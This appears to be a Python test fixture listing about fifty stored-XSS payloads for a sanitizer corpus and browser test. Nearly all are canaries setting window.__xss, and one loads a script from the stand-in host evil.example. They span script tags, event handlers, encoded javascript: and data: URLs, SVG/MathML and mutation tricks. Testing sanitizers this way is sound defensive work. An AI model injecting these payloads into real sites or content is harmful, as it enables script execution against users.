"""Stored-XSS payloads for the sanitizer corpus and the browser test (X1, X2).

Each payload would set window.__xss (or open a dialog) if it ever ran.
"""

PAYLOADS = [
    # script
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script/src=data:,window.__xss=1></script>",
    # event-handler attributes
    "<img src=x onerror=window.__xss=1>",
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<div onmouseover='window.__xss=1'>hover</div>",
    "<a href=https://ok.example onclick=window.__xss=1>click</a>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    # javascript: and data: URLs in every casing and encoding
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](java\tscript:window.__xss=1)",
    "[click](&#106;avascript:window.__xss=1)",
    "[click](&#x6A;&#x61;vascript:window.__xss=1)",
    "[click](%6Aavascript:window.__xss=1)",
    "[click]( javascript:window.__xss=1)",
    "[click](vbscript:window.__xss=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>window.__xss=1</script>)",
    '<a href="javascript:window.__xss=1">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058window.__xss=1">x</a>',
    "[x](javascript&colon;window.__xss=1)",
    "[x](<javascript:window.__xss=1>)",
    '[x](https://ok.example "title" onmouseover=window.__xss=1)',
    "![x](javascript:window.__xss=1)",
    '<https://ok.example/"onmouseover="window.__xss=1>',
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><a xlink:href=javascript:window.__xss=1><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<math href=javascript:window.__xss=1>x</math>",
    # mutation XSS tricks
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=window.__xss=1 src>">',
    "<style><img src=x onerror=window.__xss=1></style>",
    "<xmp><img src=x onerror=window.__xss=1></xmp>",
    "<template><img src=x onerror=window.__xss=1></template>",
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<![CDATA[><img src=x onerror=window.__xss=1>]]>",
    # unclosed and odd tags
    "<img src=x onerror=window.__xss=1",
    "<iframe src=javascript:window.__xss=1>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<base href=javascript:/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    '<a href="https://ok.example"<img src=x onerror=window.__xss=1>',
    "> <img src=x onerror=window.__xss=1>\n> quote",
    "- <b onclick=window.__xss=1>item</b>\n- [x](javascript:window.__xss=1)",
    "*<i onclick=window.__xss=1>em</i>*",
    '"><script>window.__xss=1</script>',
    "'><svg/onload=window.__xss=1>",
]
